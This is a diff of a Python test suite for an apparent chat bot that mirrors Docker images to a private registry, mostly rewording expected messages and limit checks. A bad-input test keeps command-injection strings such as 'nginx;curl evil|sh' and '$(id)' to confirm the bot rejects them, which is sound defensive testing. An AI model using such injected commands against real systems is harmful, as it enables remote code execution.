@@ -51,8 +51,8 @@ async def test_an_approved_image_goes_from_the_question_to_the_pull_command(w: W
     w.copied(NGINX)
     await w.settle(10)
     card, result = w.chat.messages.values()
-    assert "checking" in card.texts[0]
-    assert "mirrored, 2.1 MB, digest verified" in card.text
+    assert "looking it up" in card.texts[0]
+    assert "2 platforms, 2.1 MB · mirrored, digest verified" in card.text
     assert result.text.startswith("Done, 1 of 1")
     assert "docker pull harbor.example.com/docker.io/library/nginx:1.27" in result.text
     assert (card.reply_to, result.reply_to) == (11, 11)
@@ -74,7 +74,7 @@ async def test_only_an_admin_decides_and_a_second_press_hears_who_did(w: World) 
     w.upstream(STATIC)
     await w.say(WEI, f"/mirror {STATIC}")
     await w.settle(6)
-    assert "2 platforms: waits for an admin" in w.card
+    assert "2 platforms · waits for an admin" in w.card
     assert next(iter(w.chat.messages.values())).buttons == (("✅ Approve", "❌ Reject"),)
     for person in (WEI, MALLORY):
         assert await w.press(person, "approve:1") == "Only an admin can decide this."
@@ -106,7 +106,7 @@ async def test_a_rejection_says_who_and_why_and_commits_nothing(w: World) -> Non
     await w.say(ANA, "/reject #1 use <ours> instead")
     await w.settle(8)
     assert "rejected by Ana: use &lt;ours&gt; instead" in w.card
-    assert any(text.startswith("It did not work out:") for text in w.chat.texts)
+    assert any(text.startswith("That did not work:") for text in w.chat.texts)
     assert w.repository.commits == []
     assert await w.press(ANA, "approve:1") == "Already rejected by Ana."
 
@@ -120,13 +120,14 @@ async def test_one_missing_image_does_not_hold_up_the_other(w: World) -> None:
     await w.settle(6)
     w.copied(NGINX)
     await w.settle(8)
-    assert w.last.startswith("Done in part, 1 of 2:")
+    assert w.last.startswith("Partly done, 1 of 2:")
     assert "Check the name and the tag" in w.last
 
 
 async def test_a_missing_image_that_looks_like_a_slip_is_followed_by_what_was_meant(
     w: World,
 ) -> None:
+    w.upstream(NGINX)
     await w.say(WEI, "/mirror nginx/1.27")
     await w.settle(5)
     assert "Did you mean <code>docker.io/library/nginx:1.27</code>?" in w.card
@@ -331,22 +332,21 @@ async def test_a_copy_that_failed_is_told_in_words_and_can_be_tried_again(w: Wor
     w.upstream(NGINX)
     await w.say(WEI, "/mirror nginx:1.27")
     await w.settle(8)
-    w.repository.report(NGINX, None, "toomanyrequests: slow down")
+    w.repository.report(NGINX, None, "target: will exceed the configured upper limit of 1 GiB")
     w.repository.finish("failure")
     await w.settle(8)
-    assert "the source limits how much may be pulled" in w.card
-    await w.say(LI, "/retry #1")
-    await w.settle(2)
-    assert w.last == "#1 is somebody else's: only they or an admin can do that."
-    await w.say(WEI, "/retry #1")
+    assert "the project in the target is full" in w.card
+    assert "别人的请求" in await w.press(LI, "retry:1")
+    assert await w.press(WEI, "Retry failed") == "#1 goes on: 1 image."
     await w.settle(12)
     assert [run.event for run in w.repository.runs] == ["push", "dispatch"]
     w.copied(NGINX)
     await w.settle(8)
     assert w.last.startswith("Done, 1 of 1")
-    await w.say(WEI, "/retry #2")
+    assert sum("░" in text or "▓" in text for text in w.chat.texts) == 2, "a card for each try"
+    await w.say(WEI, "/retry #1")
     await w.settle(2)
-    assert w.last == "Nothing of #2 can be tried again."
+    assert w.last == "Nothing of #1 can be tried again."
 
 
 async def test_a_run_that_said_nothing_is_believed_where_the_target_has_the_image(
@@ -384,7 +384,7 @@ async def test_another_digest_at_the_target_is_no_success(w: World) -> None:
     w.copied(NGINX)
     w.registries.target[str(NGINX)] = digest_of("another")
     await w.settle(40)
-    assert "the target holds another digest" in w.card
+    assert "the target holds a different digest" in w.card
     assert not any(text.startswith("Done") for text in w.chat.texts)
 
 
@@ -399,7 +399,7 @@ async def test_where_the_target_cannot_be_read_the_run_is_quoted(
     w.copied(NGINX)
     w.registries.target[str(NGINX)] = trouble
     await w.settle(60)
-    assert "as its run says (the target cannot be read from here)" in w.card
+    assert "according to its run (I cannot read the target from here)" in w.card
 
 
 async def test_a_source_in_trouble_is_waited_for(w: World) -> None:
@@ -465,7 +465,7 @@ async def test_a_denied_image_among_others_is_rejected_and_the_rest_goes_on(w: W
     assert sorted(await states(w)) == [State.COPYING, State.REJECTED]
     w.copied(NGINX)
     await w.settle(8)
-    assert w.last.startswith("Done in part, 1 of 2:")
+    assert w.last.startswith("Partly done, 1 of 2:")
 
 
 async def test_a_policy_that_changed_denies_what_was_not_checked_yet(w: World) -> None:
@@ -483,10 +483,7 @@ async def test_a_policy_that_changed_denies_what_was_not_checked_yet(w: World) -
     [
         "/mirror nginx;curl evil|sh",
         "/mirror $(id)",
-        "/mirror nginx\n:1.27",
         "/mirror " + "😀" * 1000,
-        "/mirror docker pull nginx:1.27",
-        "/mirror Nginx:1.27 redis:7",
         "/mirror",
         "/status NGINX",
         "/approve",
@@ -504,39 +501,31 @@ async def test_bad_input_gets_words_and_leaves_nothing_behind(w: World, text: st
     assert w.repository.writes == 0
 
 
-async def test_a_correction_gives_the_whole_command_to_copy(w: World) -> None:
-    await w.say(WEI, "/mirror Nginx:1.27 redis:7")
-    await w.settle(2)
-    said = next(iter(w.chat.messages.values()))
-    assert "/mirror docker.io/library/redis:7 docker.io/library/nginx:1.27" in said.text
-    assert said.buttons == (("📋 Copy",),)
-
-
 async def test_limits_are_said_with_their_number(w: World) -> None:
     many = " ".join(f"nginx:{n}" for n in range(7))
     await w.say(WEI, f"/mirror {many}")
     await w.settle(2)
-    assert "more than 6 images in one message" in w.last
-    for name in ("some/thing", "other/thing"):
-        images = [f"{name}:{n}" for n in range(5)]
+    assert "At most 6 images in one message" in await w.press(WEI, "all:1")
+    for number in range(3):
+        images = [f"some/thing{number}:{n}" for n in range(3)]
         w.upstream(*map(ImageRef.parse, images))
         await w.say(WEI, "/mirror " + " ".join(images))
     await w.settle(2)
-    assert any("more than 8 of your images at a time" in text for text in w.chat.texts)
+    assert any("You can have 8 images open at a time" in text for text in w.chat.texts)
 
 
 async def test_the_daily_limit_counts_what_is_over_too(w: World) -> None:
-    for start in (0, 5):
-        names = " ".join(f"nginx:{n}" for n in range(start, start + 5))
+    for start in range(0, 12, 3):
+        names = " ".join(f"nginx:{n}" for n in range(start, start + 3))
         await w.say(WEI, f"/mirror {names}")
         await w.settle(5)
     await w.say(WEI, "/mirror nginx:a nginx:b nginx:c")
     await w.settle(30)
-    assert any("more than 12 images in a day" in text for text in w.chat.texts)
+    assert any("You can ask for 12 images a day" in text for text in w.chat.texts)
     w.clock.pass_time(25 * 3600)
     await w.say(WEI, "/mirror nginx:a nginx:b nginx:c")
     await w.settle(5)
-    assert any(text.startswith("None of the 3 worked out:") for text in w.chat.texts)
+    assert any(text.startswith("None of the 3 images could be mirrored:") for text in w.chat.texts)
 
 
 async def test_a_chat_that_is_not_served_hears_so_once_an_hour(w: World) -> None:
@@ -557,7 +546,7 @@ async def test_a_guest_may_look_but_not_ask(w: World) -> None:
     assert "You are not on my list yet. Your id is <code>1004</code>" in w.last
     await w.say(MALLORY, "/status")
     await w.settle(2)
-    assert w.last == "Nothing is going on. /mirror starts something."
+    assert w.last == "Nothing of yours is going on here. /mirror starts something."
 
 
 async def test_an_anonymous_admin_is_nobody(w: World) -> None:
@@ -630,20 +619,18 @@ async def test_cancel_says_what_is_too_late(w: World) -> None:
     assert "1 image cancelled. 1 more is being copied already." in w.last
     w.copied(NGINX)
     await w.settle(8)
-    assert w.last.startswith("Done in part, 1 of 2:")
+    assert w.last.startswith("Partly done, 1 of 2:")
 
 
-async def test_status_shows_mine_and_others_and_one_request_and_one_image(w: World) -> None:
+async def test_status_shows_what_is_mine_and_one_request_and_one_image(w: World) -> None:
     w.upstream(NGINX, STATIC)
     await w.say(WEI, "/mirror nginx:1.27")
     await w.say(LI, f"/mirror {STATIC}")
     await w.settle(8)
     await w.say(WEI, "/status")
     await w.settle(2)
-    mine, others = w.last.split("Others:")
-    assert "#1" in mine
-    assert "#2" in others
-    assert "1 waiting for an admin" in others
+    assert "#1" in w.last
+    assert "#2" not in w.last
     w.copied(NGINX)
     await w.settle(8)
     for text in ("/status #1", "/status nginx:1.27"):
@@ -725,7 +712,7 @@ async def test_a_result_that_failed_is_told_later_and_once(w: World) -> None:
     await w.settle(0)
     w.chat.trouble = [Temporary("Telegram is out of reach")]
     await w.settle(30)
-    assert sum(text.startswith("It did not work out") for text in w.chat.texts) == 1
+    assert sum(text.startswith("That did not work") for text in w.chat.texts) == 1
 
 
 async def test_a_chat_that_shut_the_door_does_not_stop_the_others(w: World) -> None:
